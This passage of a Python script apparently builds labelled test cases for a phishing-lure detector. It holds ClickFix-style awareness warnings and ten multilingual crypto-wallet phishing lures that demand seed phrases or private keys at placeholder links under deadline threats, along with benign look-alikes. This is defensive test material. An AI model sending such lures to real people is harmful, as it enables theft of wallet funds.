    "Microsoft will never ask you to press Win+R and paste a command, but scammers do. Close such pages.",
    "Your bank will never ask you to open Terminal and paste anything, but if a page does, close it.",
    "Apple will never ask you to paste into Terminal, but a fake update page might: do not follow it.",
    "No real site will ever ask you to press Win+R and paste; but when one does, tell IT.",
    "We will never ask you to open PowerShell and paste code, but attackers often pretend to be us.",
    "IT will never ask you to press Win+R and paste, but should you see such a request, report it.",
    "Google will never tell you to open Terminal and paste a command, but phishing pages do.",
    "A captcha will never ask you to press Win+R and paste, but fake ones (ClickFix) do.",
    "Support would never require you to paste anything into the Run box, but in case you did, call us.",
    "Zoom will never ask you to open Terminal and paste, but criminals copy our logo to make you do it.",
]
for text in QUIET_DESPITE:
    add(
        "paste-despite-warning",
        text,
        "not_flagged",
        "any",
        "unknown",
        "https://security.example.org/awareness",
    )

# ---- seed-link-threat ------------------------------------------------------------------------
SEEDS = [
    "Urgent: your wallet will be suspended in 24 hours. Verify your 12-word recovery phrase at https://sl1.wallet-sync.invalid/verify",
    "Your wallet has been flagged. To restore access, enter your recovery phrase at https://sl2.wallet-sync.invalid/r",
    "Action required: your account is restricted. Submit your seed phrase within 48 hours: https://sl3.wallet-sync.invalid/kyc",
    "Your wallet is locked due to unusual activity. Validate your 24-word recovery phrase here: https://sl4.wallet-sync.invalid/v",
    "Ihre Wallet wurde gesperrt. Geben Sie Ihre Wiederherstellungsphrase innerhalb von 24 Stunden unter https://sl5.wallet-sync.invalid ein.",
    "Votre portefeuille est suspendu. Saisissez votre phrase de récupération sur https://sl6.wallet-sync.invalid sous 24 heures.",
    "Su billetera ha sido bloqueada. Introduzca su frase de recuperación en https://sl7.wallet-sync.invalid dentro de 24 horas.",
    "Pending withdrawal expires today. Sync your wallet: paste your secret recovery phrase at https://sl8.wallet-sync.invalid/sync immediately.",
    "Your funds will be frozen. To keep access, import your private key at https://sl9.wallet-sync.invalid/import within 12 hours.",
    "Il tuo wallet è stato bloccato. Inserisci la tua frase di recupero su https://sl10.wallet-sync.invalid entro 24 ore.",
]
for text in SEEDS:
    add("seed-link-threat", text, "malicious", "any", "unknown", None)
QUIET_SEEDS = [
    (
        "To restore your wallet on a new phone, enter your recovery phrase at https://sl11.wallet-docs.invalid/guide",
        "suspicious",
    ),
    (
        "Your wallet is locked. Enter your 24-word seed phrase to unlock it within 48 hours.",
        "suspicious",
    ),
    (
        "Your wallet is locked. Restore it in the app with your recovery phrase: https://help.example.com/restore",
        "not_flagged",
    ),
    (
        "We will never ask for your recovery phrase. If a page says your wallet is suspended, ignore it: https://help.example.com/safety",
        "not_flagged",
    ),
    (
        "Scammers send links like https://sl12.wallet-sync.invalid saying your wallet is frozen and ask for your seed phrase.",
        "not_flagged",
    ),
    (
        "Write your recovery phrase on paper and keep it offline. Guide: https://help.example.com/backup",
        "not_flagged",
    ),
    (
        "If you cannot import your recovery phrase within 24 hours, contact support at https://help.example.com",
        "not_flagged",
    ),
    (
        "Never type your seed phrase into a website, even if it says your wallet is locked: https://help.example.com/phishing",
        "not_flagged",
    ),
    (
        "Your hardware wallet firmware expires support today. Update in the app: https://help.example.com/firmware",
        "not_flagged",
    ),
    (
        "Recovery phrase backups: 12 or 24 words (BIP-39). See https://help.example.com/bip39",
        "not_flagged",
    ),
]
for text, expect in QUIET_SEEDS:
    add("seed-link-threat", text, expect, "any", "unknown", None)

CASES = book.cases

if __name__ == "__main__":
    write(Path(__file__).with_name("b15lures.jsonl"), CASES)
